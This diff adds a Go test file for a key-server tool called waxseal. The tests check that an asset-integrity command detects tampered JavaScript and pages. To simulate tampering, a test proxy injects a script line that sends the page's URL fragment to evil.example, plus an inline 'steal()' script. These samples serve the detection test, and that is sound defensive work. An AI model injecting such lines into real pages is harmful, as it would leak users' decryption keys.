@@ -1,0 +1,142 @@
+package main
+
+import (
+	"bytes"
+	"context"
+	"crypto/sha256"
+	"encoding/hex"
+	"io"
+	"log/slog"
+	"net/http"
+	"net/http/httptest"
+	"net/http/httputil"
+	"net/url"
+	"path/filepath"
+	"strings"
+	"testing"
+
+	"github.com/waxseal/waxseal/assets"
+	"github.com/waxseal/waxseal/keyserver"
+	"github.com/waxseal/waxseal/keyserver/boltstore"
+)
+
+// startRealKeyServer is a key server as `waxseal keyserver` runs it (its handler
+// over HTTP, bbolt underneath).
+func startRealKeyServer(t *testing.T) *httptest.Server {
+	t.Helper()
+	st, err := boltstore.Open(filepath.Join(t.TempDir(), "waxseal.db"), boltstore.Options{})
+	if err != nil {
+		t.Fatal(err)
+	}
+	t.Cleanup(func() { st.Close() })
+	var master [32]byte
+	copy(master[:], "master key for tests only 012345")
+	svc, err := keyserver.New(keyserver.Config{PublicURL: "http://localhost:8080", MasterKey: master,
+		OrgDomains: []string{"hospital.example"}, Logger: slog.New(slog.DiscardHandler)}, st)
+	if err != nil {
+		t.Fatal(err)
+	}
+	srv := httptest.NewServer(keyserver.NewHandler(svc))
+	t.Cleanup(srv.Close)
+	return srv
+}
+
+// tampering puts a proxy in front of the key server that changes what it
+// serves.
+func tampering(t *testing.T, target string, change func(path string, body []byte) []byte) *httptest.Server {
+	t.Helper()
+	u, _ := url.Parse(target)
+	rp := httputil.NewSingleHostReverseProxy(u)
+	rp.ModifyResponse = func(r *http.Response) error {
+		if r.Header.Get("Content-Encoding") != "" {
+			return nil // changed in the identity form only: enough to be seen
+		}
+		b, err := io.ReadAll(r.Body)
+		if err != nil {
+			return err
+		}
+		b = change(r.Request.URL.Path, b)
+		r.Body = io.NopCloser(bytes.NewReader(b))
+		r.ContentLength = int64(len(b))
+		r.Header.Del("Content-Length")
+		return nil
+	}
+	srv := httptest.NewServer(rp)
+	t.Cleanup(srv.Close)
+	return srv
+}
+
+func TestCheckAssets(t *testing.T) {
+	ks := startRealKeyServer(t)
+	var out, errOut bytes.Buffer
+	if code := run(context.Background(), []string{"admin", "check-assets", ks.URL}, nil, &out, &errOut); code != 0 {
+		t.Fatalf("an unchanged key server: exit %d\n%s%s", code, out.String(), errOut.String())
+	}
+	set, err := assets.Load()
+	if err != nil {
+		t.Fatal(err)
+	}
+	for _, name := range []string{"app.js", "console.js", "style.css"} {
+		if !strings.Contains(out.String(), "ok       "+name+" (identity): "+set.Get(name).URL) {
+			t.Errorf("no ok line for %s:\n%s", name, out.String())
+		}
+	}
+	if strings.Contains(out.String(), "MISMATCH") {
+		t.Errorf("mismatch on an unchanged key server:\n%s", out.String())
+	}
+
+	app := set.Get("app.js")
+	for _, c := range []struct {
+		name   string
+		change func(string, []byte) []byte
+		want   string
+	}{
+		{"a changed script", func(p string, b []byte) []byte {
+			if p == app.URL {
+				return append(b, "\nfetch('https://evil.example/?k='+location.hash);\n"...)
+			}
+			return b
+		}, "MISMATCH app.js (identity): " + app.URL + ": served sha256"},
+		{"a page loading another script", func(p string, b []byte) []byte {
+			if strings.HasPrefix(p, "/open/") {
+				return bytes.Replace(b, []byte("</head>"), []byte(`<script src="/static/extra.js"></script></head>`), 1)
+			}
+			return b
+		}, "MISMATCH page /open/00000000000000000000000000000000 loads /static/extra.js, which this binary does not serve"},
+		{"an inline script", func(p string, b []byte) []byte {
+			if p == "/" {
+				return bytes.Replace(b, []byte("</head>"), []byte(`<script>steal()</script></head>`), 1)
+			}
+			return b
+		}, "MISMATCH page /: an inline script"},
+	} {
+		t.Run(c.name, func(t *testing.T) {
+			evil := tampering(t, ks.URL, c.change)
+			var out, errOut bytes.Buffer
+			code := run(context.Background(), []string{"admin", "check-assets", evil.URL}, nil, &out, &errOut)
+			if code != 1 || !strings.Contains(out.String(), c.want) || !strings.Contains(errOut.String(), "differ from this binary's") {
+				t.Fatalf("exit %d, want 1 and %q:\n%s%s", code, c.want, out.String(), errOut.String())
+			}
+		})
+	}
+}
+
+func TestVersion(t *testing.T) {
+	var out, errOut bytes.Buffer
+	if code := run(context.Background(), []string{"version"}, nil, &out, &errOut); code != 0 {
+		t.Fatalf("exit %d: %s", code, errOut.String())
+	}
+	lines := strings.Split(out.String(), "\n")
+	if !strings.HasPrefix(lines[0], "waxseal ") || !strings.HasPrefix(lines[1], "revision ") || !strings.HasPrefix(lines[3], "decryptor ") {
+		t.Fatalf("version printed:\n%s", out.String())
+	}
+	set, _ := assets.Load()
+	if a := set.Get("waxseal.wasm"); a != nil && !strings.Contains(lines[3], sha256hex(a.Raw())) {
+		t.Errorf("the decryptor's hash is not its SHA-256:\n%s", out.String())
+	}
+}
+
+func sha256hex(b []byte) string {
+	s := sha256.Sum256(b)
+	return hex.EncodeToString(s[:])
+}
